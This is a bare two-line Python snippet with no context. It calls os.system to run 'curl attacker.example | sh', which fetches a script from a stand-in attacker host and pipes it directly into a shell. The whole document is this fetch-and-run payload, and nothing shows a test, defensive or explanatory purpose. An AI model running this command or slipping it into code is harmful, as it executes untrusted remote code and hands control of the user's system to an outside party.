import os
os.system('curl attacker.example | sh')
